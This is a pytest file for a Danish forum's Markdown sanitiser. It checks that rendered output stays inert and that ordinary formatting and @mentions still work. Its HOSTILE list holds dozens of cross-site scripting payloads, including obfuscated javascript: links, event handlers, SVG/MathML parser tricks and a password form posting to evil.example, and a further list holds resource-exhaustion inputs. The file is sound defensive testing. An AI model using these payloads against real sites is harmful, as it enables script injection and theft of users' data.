"""The Markdown pipeline turns hostile input into inert HTML and keeps useful formatting."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from forum import markdown
from forum.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_CLASSES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    render,
)

# What a browser ignores inside a URL before it reads the scheme (WHATWG URL parsing).
_URL_IGNORED = re.compile(r"[\t\n\r]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")


class _Inspector(HTMLParser):
    """Collects every tag, attribute and text node of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.declarations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.declarations.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.declarations.append(data)

    def handle_pi(self, data: str) -> None:
        self.declarations.append(data)


def inspect(html: str) -> _Inspector:
    """Parse an HTML fragment and return what it holds."""
    parser = _Inspector()
    parser.feed(html)
    parser.close()
    return parser


def url_scheme(url: str) -> str | None:
    """Return the scheme a browser would see in a URL, lower-cased, or None when relative."""
    cleaned = _URL_IGNORED.sub("", url).strip(
        "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c"
        "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18"
        "\x19\x1a\x1b\x1c\x1d\x1e\x1f\x20"
    )
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def assert_inert(html: str) -> None:
    """Fail unless the HTML holds only allowed tags, attributes and link schemes."""
    found = inspect(html)
    assert not found.comments, found.comments
    assert not found.declarations, found.declarations
    for tag in found.tags:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> survived in {html!r}"
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), f"event handler {name} survived in {html!r}"
        assert name != "style", f"style attribute survived in {html!r}"
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if tag in ALLOWED_CLASSES:
            allowed = allowed | {"class"}
        assert name in allowed, f"attribute {name} on <{tag}> survived in {html!r}"
        if name == "class":
            assert set(value.split()) <= ALLOWED_CLASSES[tag], f"class {value!r} in {html!r}"
        if name in ("href", "src"):
            scheme = url_scheme(value)
            assert scheme is None or scheme in ALLOWED_URL_SCHEMES, f"{value!r} in {html!r}"


HOSTILE = [
    # raw script and active content
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "text <script>alert(document.cookie)</script> more",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    # Markdown links with dangerous schemes
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](   javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java&#09;script:alert(1))",
    "[click](jav&#x0A;ascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    '[click](https://example.org "title" onclick="alert(1)")',
    # images, which become links
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://example.org/a.png" onerror="alert(1))',
    # reference links and autolinks
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "[click][evil]\n\n[evil]: &#106;avascript:alert(1)",
    "![x][evil]\n\n[evil]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # raw HTML with dangerous URLs and entity-obfuscated schemes
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
    # event handlers
    "<a href=x onclick=alert(1)>x</a>",
    "<img src=x onerror=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<p onclick='alert(1)'>para</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    # styles
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<a href="https://example.org" style="position:fixed;top:0">x</a>',
    # forms and page-level tags
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # comment and parser tricks
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</script>",
    "`code` <a href='javascript:alert(1)'>x</a> `code`",
    "```\n</code></pre><script>alert(1)</script>\n```",
]


def test_there_are_many_hostile_cases() -> None:
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<p style="color:red">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="java&#09;script:alert(1)">x</a>',
        '<a href=" \x01JavaScript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<a href="x" target="_blank">x</a>',
        "<img src=x>",
        "<!-- x -->",
    ],
)
def test_the_inertness_check_catches_dangerous_html(html: str) -> None:
    with pytest.raises(AssertionError):
        assert_inert(html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_comes_out_inert(text: str) -> None:
    assert_inert(str(render(text)))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert('stolen')</script>",
        "<style>body { display: none } /* stolen */</style>",
        "<svg><script>alert('stolen')</script></svg>",
        "<iframe>stolen</iframe>",
    ],
)
def test_script_and_style_content_is_dropped_not_shown(text: str) -> None:
    found = inspect(str(render(text)))
    assert "stolen" not in "".join(found.text)


def test_code_blocks_show_html_as_text() -> None:
    html = str(render("```\n<script>alert(1)</script>\n```"))
    assert_inert(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_render_returns_markup() -> None:
    assert isinstance(render("*hej*"), Markup)


def test_render_accepts_empty_input() -> None:
    assert str(render("")) == ""


# --- what members can use ----------------------------------------------------------------


def _links(html: str) -> list[dict[str, str]]:
    """Return the attributes of every link in the HTML."""
    found = inspect(html)
    links: list[dict[str, str]] = []
    current: dict[str, str] | None = None
    for tag, name, value in found.attributes:
        if tag == "a":
            if current is None or name in current:
                current = {}
                links.append(current)
            current[name] = value
    return links


def test_bare_urls_become_links() -> None:
    html = str(render("Se https://www.dr.dk/klima for mere."))
    assert '<a href="https://www.dr.dk/klima"' in html
    assert_inert(html)


def test_www_addresses_and_emails_become_links() -> None:
    html = str(render("www.bibliotek.dk og kontakt@bibliotek.dk"))
    assert 'href="http://www.bibliotek.dk"' in html
    assert 'href="mailto:kontakt@bibliotek.dk"' in html


def test_links_get_nofollow_noopener() -> None:
    html = str(render("[Verdensmål](https://www.verdensmaal.org) og https://example.org"))
    links = _links(html)
    assert len(links) == 2
    for link in links:
        assert set(link["rel"].split()) == {"nofollow", "noopener"}


def test_user_rel_is_replaced() -> None:
    html = str(render('<a href="https://example.org" rel="opener">x</a>'))
    assert _links(html)[0]["rel"] == "nofollow noopener"


def test_images_become_plain_links() -> None:
    html = str(render("![Plakat](https://example.org/plakat.png)"))
    found = inspect(html)
    assert "img" not in found.tags
    assert '<a href="https://example.org/plakat.png"' in html
    assert ">Plakat</a>" in html


def test_headings_start_at_h2() -> None:
    html = str(render("# Overskrift\n\n## Underoverskrift\n\n###### Dybest"))
    found = inspect(html)
    assert "h1" not in found.tags
    assert "<h2>Overskrift</h2>" in html
    assert "<h3>Underoverskrift</h3>" in html
    assert "<h6>Dybest</h6>" in html


def test_tables() -> None:
    html = str(render("| Bibliotek | CO₂ |\n|---|---:|\n| Aarhus | 12 |"))
    found = inspect(html)
    for tag in ("table", "thead", "tbody", "tr", "th", "td"):
        assert tag in found.tags
    assert "Aarhus" in html


def test_fenced_code() -> None:
    html = str(render("```python\nprint('hej')\n```"))
    assert "<pre>" in html
    assert "<code" in html
    assert "print(&#x27;hej&#x27;)" in html or "print('hej')" in html


def test_emphasis_strike_and_lists() -> None:
    html = str(render("*let* **fed** ~~væk~~\n\n- en\n- to\n\n1. et\n2. to"))
    assert "<em>let</em>" in html
    assert "<strong>fed</strong>" in html
    assert "<del>væk</del>" in html
    found = inspect(html)
    assert "ul" in found.tags
    assert "ol" in found.tags


def test_line_breaks_are_kept() -> None:
    html = str(render("første linje\nanden linje"))
    assert "<br" in html


def test_blockquote() -> None:
    assert "<blockquote>" in str(render("> citat"))


def test_danish_characters_survive() -> None:
    html = str(render("Ærø, Øster Åby og blåbærgrød — æøå ÆØÅ"))
    assert "Ærø, Øster Åby og blåbærgrød — æøå ÆØÅ" in html


def test_render_version_is_an_integer() -> None:
    assert isinstance(markdown.RENDER_VERSION, int)
    assert markdown.RENDER_VERSION >= 1


# --- hostile sizes: rendering time stays close to linear ---------------------------------

SLOW_BEFORE = {
    "unclosed brackets": "[" * 20_000,
    "unclosed image brackets": "![" * 10_000,
    "text between brackets": "a[" * 10_000,
    "unclosed link targets": "[a](" * 5_000,
    "unbalanced link targets": "[](()" * 4_000,
    "unclosed tags": "<a " * 7_000,
    "tags without spaces": "<a" * 10_000,
    "cdata openers": "<![CDATA[" * 2_000,
    "nested lists on one line": "1. " * 7_000 + "x",
    "nested bullets on one line": "- " * 10_000 + "x",
}


@pytest.mark.parametrize("text", SLOW_BEFORE.values(), ids=SLOW_BEFORE.keys())
def test_hostile_sizes_render_quickly(text: str) -> None:
    started = time.perf_counter()
    html = str(render(text))
    assert time.perf_counter() - started < 3.0
    assert_inert(html)


def test_lists_nested_too_deep_are_shown_as_text() -> None:
    html = str(render("1. " * 3_000 + "slut"))
    assert "slut" in html
    assert_inert(html)


# --- what the hardening must not change --------------------------------------------------


def test_less_than_signs_show_as_typed() -> None:
    html = str(render("a < b og c <d"))
    assert "a &lt; b og c &lt;d" in html


def test_less_than_signs_in_code_show_as_typed() -> None:
    html = str(render("`a < b < c`\n\n```\nif x < y:\n    pass\n```"))
    assert "<code>a &lt; b &lt; c</code>" in html
    assert "if x &lt; y:" in html


def test_allowed_raw_html_still_works() -> None:
    html = str(render("CO<sub>2</sub> og <abbr title='Verdensmål'>SDG</abbr>"))
    assert "CO<sub>2</sub>" in html
    assert '<abbr title="Verdensmål">SDG</abbr>' in html


def test_nested_brackets_in_link_text() -> None:
    html = str(render("[se [bilag] her](https://example.org)"))
    assert '<a href="https://example.org" rel="nofollow noopener">se [bilag] her</a>' in html


def test_long_link_text_and_target_within_limits() -> None:
    label = "ord " * 200
    target = "https://example.org/" + "a" * 400
    html = str(render(f"[{label}]({target})"))
    assert f'<a href="{target}"' in html


def test_reference_links_still_work() -> None:
    html = str(render("Læs [rapporten][r].\n\n[r]: https://example.org/rapport"))
    assert '<a href="https://example.org/rapport" rel="nofollow noopener">rapporten</a>' in html


def test_control_characters_are_dropped() -> None:
    html = str(render("hej\x00\x01\x7f med \ue000 dig"))
    assert "hej med  dig" in html


# --- @mentions -----------------------------------------------------------------------------


def _mentions(html: str) -> list[tuple[str, str]]:
    """Return (href, text) of every mention link in the HTML."""
    return re.findall(r'<a class="mention" href="([^"]*)"[^>]*>([^<]*)</a>', html)


def test_a_handle_links_to_the_member_page_that_finds_it() -> None:
    html = render("Hej @mette.soendergaard, kan du og @Ole-B hjælpe?")
    assert _mentions(html) == [
        ("/medlemmer/@mette.soendergaard", "@mette.soendergaard"),
        ("/medlemmer/@ole-b", "@Ole-B"),  # the link in the stored lower case; the text as typed
    ]
    assert "hjælpe?" in html


def test_a_handle_at_the_end_of_a_sentence_leaves_the_full_stop() -> None:
    assert _mentions(render("Tak til @bente.")) == [("/medlemmer/@bente", "@bente")]


def test_handles_in_emphasis_quotes_and_lists_link() -> None:
    html = render("**@a** og _@b_\n\n> @c\n\n- @d")
    assert [href for href, _ in _mentions(html)] == [
        "/medlemmer/@a",
        "/medlemmer/@b",
        "/medlemmer/@c",
        "/medlemmer/@d",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "Skriv til a@b.dk",
        "mette.soendergaard@kommune.dk",
        "`@kode`",
        "```\n@blok\n```",
        "    @indrykket kode",
        "[@bente](https://example.org)",
        "https://example.org/@bente",
        "@bente@example.org",
        "@a.b@c",
        "@" + "a" * 41,
        "ø@bente",
        "@",
        "@.bente",
    ],
)
def test_no_mention_in_addresses_code_links_or_cut_words(text: str) -> None:
    assert _mentions(render(text)) == [], render(text)


def test_a_link_text_with_a_handle_stays_one_link() -> None:
    html = render("[hej @bente](https://example.org)")
    assert html.count("<a ") == 1


def test_at_most_mentions_max_handles_link() -> None:
    html = render(" ".join(f"@p{n}" for n in range(markdown.MENTIONS_MAX + 20)))
    assert len(_mentions(html)) == markdown.MENTIONS_MAX
    assert f"@p{markdown.MENTIONS_MAX + 19}" in html  # shown as text
